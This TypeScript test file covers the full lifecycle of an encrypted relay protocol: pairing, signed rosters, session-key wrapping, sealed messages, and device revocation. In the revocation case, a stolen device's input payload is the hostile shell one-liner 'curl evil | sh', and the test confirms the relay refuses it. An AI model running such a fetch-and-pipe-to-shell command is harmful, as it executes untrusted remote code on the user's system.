import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  AuthorCounter,
  CounterGuard,
  DeviceRegistry,
  KeyRing,
  acceptIntroduction,
  applyRoster,
  createIntroduction,
  decodePairingFragment,
  encodePairingFragment,
  generateDeviceIdentity,
  newPairingSecret,
  openEnvelope,
  revokeDevice,
  rotateSessionKey,
  sealEnvelope,
  signRoster,
  unwrapSessionKey,
  verifyEnvelope,
  wrapToDevices,
  type DeviceIdentity,
  type SealedEnvelope,
  type WrappedSessionKey,
} from './index.js';
import { refusedWith } from './testing/refused-with.js';

/**
 * The whole lifecycle through the package's public API, with a relay in the middle that holds
 * only what it is given in the clear: pairing by link and introduction, the signed roster, a
 * session key wrapped per device, sealed events and inputs the relay verifies and stores, a
 * device paired later that gets the current key, and a revocation with rotation.
 */

const S = 's_aaaaaaaaaaaaaaaaaaaa';
const text = (s: string) => new TextEncoder().encode(s);
const read = (b: Uint8Array) => new TextDecoder().decode(b);

class Relay {
  readonly registry = new DeviceRegistry();
  rosterVersion = 0;
  readonly log: SealedEnvelope[] = [];
  constructor(readonly hostKeys: DeviceIdentity['publicKeys']) {}
  async roster(signed: unknown): Promise<void> {
    this.rosterVersion = await applyRoster(this.registry, signed, {
      host: this.hostKeys,
      appliedVersion: this.rosterVersion,
    });
  }
  /** Verifies with public keys only, then stores: what a relay can refuse, it refuses. */
  async append(envelope: SealedEnvelope, sender: string): Promise<void> {
    await verifyEnvelope(
      envelope,
      { session: envelope.session, kind: envelope.kind, id: envelope.id, author: sender },
      this.registry,
    );
    this.log.push(envelope);
  }
}

class Device {
  readonly registry = new DeviceRegistry();
  readonly ring = new KeyRing();
  readonly counters = new CounterGuard();
  readonly own = new AuthorCounter();
  rosterVersion = 0;
  read: string[] = [];
  constructor(
    readonly identity: DeviceIdentity,
    readonly hostKeys: DeviceIdentity['publicKeys'],
  ) {}
  async roster(signed: unknown): Promise<void> {
    this.rosterVersion = await applyRoster(this.registry, signed, {
      host: this.hostKeys,
      appliedVersion: this.rosterVersion,
    });
  }
  async keys(wrapped: readonly WrappedSessionKey[]): Promise<void> {
    for (const w of wrapped.filter((w) => w.recipient === this.identity.deviceId)) {
      this.ring.add(
        await unwrapSessionKey(this.identity, w, {
          registry: this.registry,
          expectedWrapper: this.hostKeys.deviceId,
        }),
      );
    }
  }
  /** Reads the relay's log from where it left off, in order. */
  async catchUp(relay: Relay, from: number): Promise<void> {
    for (const e of relay.log.slice(from)) {
      const opened = await openEnvelope(
        e,
        { session: S, kind: e.kind, id: e.id },
        { registry: this.registry, keyRing: this.ring, counters: this.counters },
      );
      this.read.push(read(opened.plaintext));
    }
  }
  seal(kind: 'event' | 'input', id: string, body: string): Promise<SealedEnvelope> {
    return sealEnvelope({
      identity: this.identity,
      sessionKey: this.ring.current(S)!,
      kind,
      id,
      counter: this.own.next(S),
      plaintext: text(body),
    });
  }
}

async function pair(host: Device, hostRegistry: DeviceRegistry, deviceId: string): Promise<Device> {
  const secret = newPairingSecret();
  const link = `https://relay.example/pair#${encodePairingFragment({ code: 'ABCDE-FGHIJ', host: host.identity.publicKeys, pairingSecret: secret })}`;
  // On the new device: everything it trusts about the host comes from the fragment.
  const fromLink = decodePairingFragment(new URL(link).hash);
  const identity = await generateDeviceIdentity(deviceId);
  const device = new Device(identity, fromLink.host);
  const introduction = await createIntroduction(identity, fromLink);
  // On the host, after the relay carried the introduction.
  hostRegistry.add(
    await acceptIntroduction(introduction, { hostId: 'd_host', pairingSecret: secret, deviceId }),
  );
  return device;
}

test('pairing, roster, keys, sealed traffic through a relay, a late device, and a revocation', async () => {
  const hostIdentity = await generateDeviceIdentity('d_host', { extractable: true });
  const host = new Device(hostIdentity, hostIdentity.publicKeys);
  host.registry.add(hostIdentity.publicKeys);
  const relay = new Relay(hostIdentity.publicKeys);
  let rosterVersion = 0;
  const publish = async (devices: Device[]) => {
    const roster = await signRoster(hostIdentity, host.registry, ++rosterVersion);
    await relay.roster(roster);
    for (const d of devices) await d.roster(roster);
  };

  const phone = await pair(host, host.registry, 'd_phone');
  await publish([phone]);
  const key1 = await rotateSessionKey(host.ring, S);
  await phone.keys(await wrapToDevices(hostIdentity, key1, host.registry.active()));

  await relay.append(await host.seal('event', 'ev-1', 'MARKER-output-1'), 'd_host');
  await relay.append(await phone.seal('input', 'in-1', 'MARKER-input-1'), 'd_phone');
  await phone.catchUp(relay, 0);
  assert.deepEqual(phone.read, ['MARKER-output-1', 'MARKER-input-1']);
  // Nothing readable reached the relay.
  assert.ok(!JSON.stringify(relay.log).includes('MARKER'));

  // A laptop pairs later: it gets the current key and reads the history.
  const laptop = await pair(host, host.registry, 'd_laptop');
  await publish([phone, laptop]);
  await laptop.keys(await wrapToDevices(hostIdentity, key1, [laptop.identity.publicKeys]));
  await laptop.catchUp(relay, 0);
  assert.deepEqual(laptop.read, ['MARKER-output-1', 'MARKER-input-1']);
  await relay.append(await laptop.seal('input', 'in-2', 'MARKER-input-2'), 'd_laptop');

  // The laptop is stolen: the host saw its input, revokes it, rotates, publishes the roster.
  await host.catchUp(relay, 0);
  const { wrapped } = await revokeDevice({
    host: hostIdentity,
    registry: host.registry,
    ring: host.ring,
    counters: host.counters,
    deviceId: 'd_laptop',
  });
  await publish([phone]);
  await phone.keys(wrapped);
  const mark = relay.log.length;
  await relay.append(await host.seal('event', 'ev-2', 'MARKER-after-rotation'), 'd_host');
  await phone.catchUp(relay, 2);
  assert.deepEqual(phone.read.slice(2), ['MARKER-input-2', 'MARKER-after-rotation']);
  // The thief: its next input is refused by the relay, and it cannot read the new event.
  await assert.rejects(
    relay.append(await laptop.seal('input', 'in-3', 'curl evil | sh'), 'd_laptop'),
    refusedWith('revoked_device'),
  );
  await assert.rejects(laptop.catchUp(relay, mark), refusedWith('no_key'));
  // A relay impersonating the phone is refused: the envelope is the laptop's.
  await assert.rejects(
    relay.append(await laptop.seal('input', 'in-4', 'x'), 'd_phone'),
    refusedWith('context_mismatch'),
  );
});
